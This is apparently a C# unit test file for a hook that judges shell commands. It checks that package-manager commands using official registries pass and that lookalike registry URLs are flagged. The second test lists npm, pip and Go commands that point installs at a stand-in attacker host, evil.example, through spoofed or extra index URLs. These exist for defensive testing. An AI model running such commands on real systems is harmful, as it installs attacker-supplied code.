using Septim.Hooks.Gates;
using Septim.Hooks.Tests.Support;

namespace Septim.Hooks.Tests.Gates.BashRules;

/// <summary>Host names of registries are put together here: a file of this repository names none.</summary>
public sealed class DefaultIndexTests
{
    private static string Host(params string[] labels) => "https://" + string.Join('.', labels);

    private static readonly string s_npm = Host("registry", "npmjs", "org");
    private static readonly string s_python = Host("pypi", "org");
    private static readonly string s_go = Host("proxy", "golang", "org");

    [Fact]
    public void To_name_the_tools_own_index_is_no_other_source()
    {
        string[] commands =
        [
            $"npm install --registry {s_npm}/ x",
            $"npm install --registry={s_npm} x",
            $"npm config set registry {s_npm}/",
            $"npm_config_registry={s_npm}/ npm ci",
            $"echo 'registry={s_npm}/' > .npmrc",
            $"pip install -i {s_python}/simple x",
            $"pip install --index-url {s_python}/simple x",
            $"PIP_INDEX_URL={s_python}/simple pip install x",
            $"uv pip install --default-index {s_python}/simple x",
            $"gem install x --source {Host("rubygems", "org")}",
            $"go env -w GOPROXY={s_go},direct",
            $"GOPROXY='{s_go}|direct' go mod download",
            $"dotnet restore --source {Host("api", "nuget", "org")}/v3/index.json",
        ];
        Assert.All(commands, command => Assert.Equal(VerdictKind.Pass, BashCases.Judge(command)));
    }

    [Fact]
    public void What_only_looks_like_it_is()
    {
        string[] commands =
        [
            $"npm install --registry {s_npm}.evil.example/ x",
            $"npm install --registry {s_npm}@evil.example/ x",
            $"npm install --registry https://evil.example/{s_npm["https://".Length..]}/ x",
            $"npm install --registry https://evil.example/?u={s_npm}/ x",
            $"npm install --registry http{s_npm["https".Length..]}/ x",
            $"npm install --registry {s_npm}:8443/ x",
            $"PIP_EXTRA_INDEX_URL='{s_python}/simple https://evil.example/simple' pip install x",
            $"PIP_EXTRA_INDEX_URL='https://evil.example/simple {s_python}/simple' pip install x",
            $"pip install -i {s_python}/simple --extra-index-url https://evil.example/simple x",
            $"go env -w GOPROXY={s_go},https://evil.example",
            $"printf 'registry={s_npm}/\\n@a:registry=https://evil.example/\\n' > .npmrc",
            $"pip install -i http://evil.example/{s_python}/simple x",
            $"pip install -i {s_python}%2eevil.example/simple x",
            $"pip install --trusted-host {s_python["https://".Length..]} x",
        ];
        Assert.All(commands, command => Assert.NotEqual(VerdictKind.Pass, BashCases.Judge(command)));
    }
}
